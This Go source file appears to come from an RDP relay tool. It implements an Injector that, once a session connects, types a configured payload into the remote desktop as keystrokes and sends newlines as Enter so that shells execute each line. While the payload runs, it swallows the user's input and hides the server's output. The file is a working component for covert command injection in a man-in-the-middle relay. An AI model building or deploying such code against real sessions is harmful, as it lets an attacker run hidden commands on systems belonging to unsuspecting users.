package relay

import (
	"sync"
	"time"

	"github.com/rcarmo/rdp-relay/internal/protocol/fastpath"
	"github.com/rcarmo/rdp-relay/internal/protocol/pdu"
)

// injectorStage tracks the one-shot lifecycle of a payload injection.
type injectorStage int

const (
	injectIdle injectorStage = iota
	injectArmed
	injectRunning
	injectDone
)

// Injector types a configured payload into the session as unicode key
// events once the connection sequence completes. While the payload runs,
// client input is swallowed and server output withheld so the user sees
// nothing of it.
type Injector struct {
	mu sync.Mutex

	payload  string
	delay    time.Duration
	duration time.Duration

	stage     injectorStage
	timer     *time.Timer
	endTimer  *time.Timer
	fastPath  bool
	sendInput func(events []fastpath.InputEvent) error
}

// NewInjector returns an idle injector. An empty payload keeps it disabled
// for the life of the session.
func NewInjector(payload string, delay, duration time.Duration) *Injector {
	if delay <= 0 {
		delay = 5 * time.Second
	}

	if duration <= 0 {
		duration = 5 * time.Second
	}

	return &Injector{
		payload:  payload,
		delay:    delay,
		duration: duration,
	}
}

// Arm schedules injection. Called once when the session turns active, with
// the sender used to push events toward the server. fastPath selects the
// input encoding the client negotiated.
func (i *Injector) Arm(fastPath bool, send func(events []fastpath.InputEvent) error) {
	i.mu.Lock()
	defer i.mu.Unlock()

	if i.payload == "" || i.stage != injectIdle {
		return
	}

	i.stage = injectArmed
	i.fastPath = fastPath
	i.sendInput = send

	i.timer = time.AfterFunc(i.delay, i.fire)
}

func (i *Injector) fire() {
	i.mu.Lock()

	if i.stage != injectArmed {
		i.mu.Unlock()

		return
	}

	i.stage = injectRunning
	send := i.sendInput

	i.endTimer = time.AfterFunc(i.duration, func() {
		i.mu.Lock()
		i.stage = injectDone
		i.mu.Unlock()
	})

	i.mu.Unlock()

	_ = send(PayloadEvents(i.payload))
}

// Suppressing reports whether session traffic should be withheld from the
// client while the payload executes.
func (i *Injector) Suppressing() bool {
	i.mu.Lock()
	defer i.mu.Unlock()

	return i.stage == injectRunning
}

// Stop cancels pending timers at session teardown.
func (i *Injector) Stop() {
	i.mu.Lock()
	defer i.mu.Unlock()

	if i.timer != nil {
		i.timer.Stop()
	}

	if i.endTimer != nil {
		i.endTimer.Stop()
	}

	i.stage = injectDone
}

// PayloadEvents renders text as unicode press/release event pairs. Newlines
// become Enter scancodes so shells execute each line.
func PayloadEvents(text string) []fastpath.InputEvent {
	events := make([]fastpath.InputEvent, 0, len(text)*2)

	for _, r := range text {
		if r == '\n' {
			events = append(events,
				fastpath.NewScanCodeEvent(0, 0x1C),
				fastpath.NewScanCodeEvent(fastpath.KBDFlagsRelease, 0x1C),
			)

			continue
		}

		events = append(events,
			fastpath.NewUnicodeEvent(0, uint16(r)),
			fastpath.NewUnicodeEvent(fastpath.KBDFlagsRelease, uint16(r)),
		)
	}

	return events
}

// slowPathEvents re-encodes keyboard events for clients that never
// negotiated fast-path input.
func slowPathEvents(events []fastpath.InputEvent) []pdu.SlowPathInputEvent {
	out := make([]pdu.SlowPathInputEvent, 0, len(events))

	for _, e := range events {
		var sp pdu.SlowPathInputEvent

		switch e.Code {
		case fastpath.EventCodeScanCode:
			sp.MessageType = pdu.InputEventScanCode
			sp.KeyCode = uint16(e.KeyCode)
		case fastpath.EventCodeUnicode:
			sp.MessageType = pdu.InputEventUnicode
			sp.KeyCode = e.UnicodeCode
		default:
			continue
		}

		if e.IsRelease() {
			sp.KeyboardFlags |= pdu.KbdFlagsRelease
		}

		if e.IsExtendedKey() {
			sp.KeyboardFlags |= pdu.KbdFlagsExtended
		}

		out = append(out, sp)
	}

	return out
}
